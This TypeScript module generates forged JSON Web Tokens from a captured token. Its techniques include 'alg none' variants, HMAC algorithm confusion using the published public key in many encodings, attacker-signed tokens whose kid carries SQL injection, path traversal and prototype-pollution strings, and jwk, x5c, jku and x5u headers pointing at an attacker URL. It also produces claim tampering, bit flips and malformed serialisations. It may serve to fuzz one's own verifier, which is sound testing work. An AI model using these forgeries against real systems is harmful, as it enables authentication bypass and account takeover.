import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  sign,
  type KeyObject,
  type webcrypto,
} from 'node:crypto'

export type Fields = Record<string, unknown>
type JsonWebKey = webcrypto.JsonWebKey & Fields

const encode = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

const decode = (part: string): Fields => JSON.parse(Buffer.from(part, 'base64url').toString()) as Fields

export interface Parts {
  header: Fields
  payload: Fields
  /** The three parts of the token, encoded. */
  raw: [string, string, string]
}

export const parseToken = (token: string): Parts => {
  const [header = '', payload = '', signature = ''] = token.split('.')
  return { header: decode(header), payload: decode(payload), raw: [header, payload, signature] }
}

type Signer = (input: string) => string

/** Makes a token from any header and payload; without a signer its signature is empty. */
const forge = (header: unknown, payload: unknown, signer: Signer = () => ''): string => {
  const input = `${encode(header)}.${encode(payload)}`
  return `${input}.${signer(input)}`
}

const hmac =
  (algorithm: string, key: string | Buffer): Signer =>
  (input) =>
    createHmac(algorithm, key).update(input).digest('base64url')

const digests: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }

/** A forged token, and the attack that it tries. */
export interface Forgery {
  what: string
  token: string
}

/** Tokens whose header claims that they need no signature. */
export const unsigned = ({ header, payload, raw }: Parts): Forgery[] =>
  ['none', 'None', 'NONE', 'nOnE', '', null].flatMap((alg) =>
    [undefined, raw[2]].map((signature) => ({
      what: `alg ${alg} ${signature === undefined ? 'without' : 'with the old'} signature`,
      token: forge({ ...header, alg }, payload, () => signature ?? ''),
    })),
  )

/** All encodings of the published key that a careless verifier could use as an HMAC secret. */
const secretsOf = (jwk: JsonWebKey, jwksText: string): Record<string, string | Buffer> => {
  const key = createPublicKey({ key: jwk, format: 'jwk' })
  const pem = key.export({ type: 'spki', format: 'pem' })
  return {
    'raw bytes': Buffer.from(jwk.x ?? '', 'base64url'),
    'base64url text': jwk.x ?? '',
    'JWK text': JSON.stringify(jwk),
    'JWKS text': jwksText,
    PEM: pem,
    'PEM without line end': pem.trim(),
    DER: key.export({ type: 'spki', format: 'der' }),
    kid: String(jwk['kid']),
    'empty string': '',
  }
}

/** Tokens signed by HMAC with the public key as the secret. */
export const confused = ({ header, payload }: Parts, jwk: JsonWebKey, jwksText: string): Forgery[] =>
  Object.entries(secretsOf(jwk, jwksText)).flatMap(([name, secret]) =>
    Object.entries(digests).map(([alg, digest]) => ({
      what: `${alg} with the published key (${name})`,
      token: forge({ ...header, alg }, payload, hmac(digest, secret)),
    })),
  )

interface OwnKey {
  alg: string
  key: KeyObject
  jwk: JsonWebKey
  signer: Signer
}

const ownKey = (
  alg: string,
  pair: { privateKey: KeyObject; publicKey: KeyObject },
  digest: string | null,
): OwnKey => ({
  alg,
  key: pair.privateKey,
  jwk: pair.publicKey.export({ format: 'jwk' }) as JsonWebKey,
  signer: (input) =>
    sign(digest, Buffer.from(input), { key: pair.privateKey, dsaEncoding: 'ieee-p1363' }).toString(
      'base64url',
    ),
})

/** The attacker's own keys, one of each family. */
const ownKeys = (): OwnKey[] => [
  ownKey('EdDSA', generateKeyPairSync('ed25519'), null),
  ownKey('Ed25519', generateKeyPairSync('ed25519'), null),
  ownKey('EdDSA', generateKeyPairSync('ed448'), null),
  ownKey('ES256', generateKeyPairSync('ec', { namedCurve: 'P-256' }), 'sha256'),
  ownKey('RS256', generateKeyPairSync('rsa', { modulusLength: 2048 }), 'sha256'),
]

/** Key ids that do not exist, or that a careless lookup would resolve to a file, a URL or a statement. */
const kids = (own: unknown): unknown[] => [
  own,
  undefined,
  null,
  '',
  'unknown',
  0,
  ['x'],
  { $ne: '' },
  '__proto__',
  'constructor',
  '../../../dev/null',
  "' or 1=1 --",
  "x' union select 'k",
  '\u0000',
  'x'.repeat(1000),
]

export const foreignKeys = ({ header, payload }: Parts): Forgery[] =>
  ownKeys().flatMap(({ alg, signer }) =>
    kids(header['kid']).map((kid) => ({
      what: `${alg} by the attacker's key with kid ${JSON.stringify(kid)?.slice(0, 40)}`,
      token: forge({ ...header, alg, kid }, payload, signer),
    })),
  )

/** Headers that carry a key or point to one; `lure` is a URL of the attacker. */
export const broughtKeys = ({ header, payload }: Parts, lure: string): Forgery[] =>
  ownKeys().flatMap(({ alg, jwk, signer }) => {
    const named = { ...jwk, kid: header['kid'] }
    const certificate = Buffer.from(JSON.stringify(named)).toString('base64')
    const headers: Fields[] = [
      { jwk: named },
      { jwk },
      { jku: `${lure}/jku`, kid: 'theirs' },
      { jku: `${lure}/jku` },
      { x5u: `${lure}/x5u` },
      { x5c: [certificate] },
      { x5t: 'AAAA', 'x5t#S256': 'AAAA' },
      { crit: ['exp'] },
      { crit: ['b64'], b64: false },
      { crit: [] },
      { crit: ['x-unknown'], 'x-unknown': true },
      { b64: false },
      { typ: 'JWE', enc: 'A256GCM', zip: 'DEF' },
    ]
    return headers.map((added) => ({
      what: `${alg} with ${Object.keys(added).join(' and ')} in the header`,
      token: forge({ ...header, alg, ...added }, payload, signer),
    }))
  })

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/** Flips the most significant bit: the lower bits can be padding in the last character of a part. */
const turned = (character: string): string => alphabet[alphabet.indexOf(character) ^ 32] ?? 'A'

const changedAt = (text: string, at: number): string =>
  text.slice(0, at) + turned(text[at] ?? '') + text.slice(at + 1)

/** Each token differs from the original in one character. */
export const bitFlips = ({ raw }: Parts): Forgery[] =>
  raw.flatMap((part, index) =>
    Array.from(part, (_, at) => ({
      what: `character ${at} of part ${index} changed`,
      token: raw.with(index, changedAt(part, at)).join('.'),
    })),
  )

const withEach = (fields: Fields, others: Fields): [string, Fields][] => [
  ...Object.entries(others).map(([name, value]): [string, Fields] => [
    `${name} ${JSON.stringify(value)}`,
    { ...fields, [name]: value },
  ]),
  ...Object.keys(fields).map((name): [string, Fields] => [
    `without ${name}`,
    { ...fields, [name]: undefined },
  ]),
]

/** Tokens with changed claims or headers under the old signature, without those that equal the original. */
export const otherClaims = ({ header, payload, raw }: Parts, others: Fields): Forgery[] => {
  const signer = () => raw[2]
  const all = [
    ...withEach(payload, others).map(([what, claims]) => ({ what, token: forge(header, claims, signer) })),
    ...withEach(header, {}).map(([what, fields]) => ({
      what: `header ${what}`,
      token: forge(fields, payload, signer),
    })),
  ]
  return all.filter(({ token }) => token !== raw.join('.'))
}

/** Tokens that are cut, doubled, joined, or in another serialisation. */
export const misshapen = ({ header, payload, raw }: Parts): Forgery[] => {
  const [first, second, third] = raw
  const json = JSON.stringify({ payload: second, signatures: [{ protected: first, signature: third }] })
  const tokens = {
    'no signature': `${first}.${second}`,
    'an empty signature': `${first}.${second}.`,
    'only dots': '..',
    'a fourth part': `${raw.join('.')}.${third}`,
    'two tokens': `${raw.join('.')},${raw.join('.')}`,
    'the JSON serialisation': encode(json),
    'a signature of zeros': `${first}.${second}.${Buffer.alloc(64).toString('base64url')}`,
    'half a signature': `${first}.${second}.${third.slice(0, 43)}`,
    'a signature twice': `${first}.${second}.${third}${third}`,
    'an array as payload': forge(header, [payload], () => third),
    'a payload that is not JSON': forge(header, 'payload', () => third),
  }
  return Object.entries(tokens).map(([what, token]) => ({ what, token }))
}
